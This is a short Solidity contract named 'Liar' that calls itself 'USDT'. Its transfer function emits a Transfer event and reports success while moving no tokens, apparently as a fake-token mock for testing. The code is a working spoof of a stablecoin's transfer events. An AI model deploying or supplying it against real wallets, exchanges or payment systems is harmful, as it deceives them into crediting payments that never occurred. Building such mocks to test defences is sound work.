// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// Logs transfers and moves nothing.
contract Liar {
    event Transfer(address indexed from, address indexed to, uint256 value);

    string public constant symbol = "USDT";
    uint8 public constant decimals = 6;

    function transfer(address to, uint256 value) external returns (bool) {
        emit Transfer(msg.sender, to, value);
        return true;
    }
}
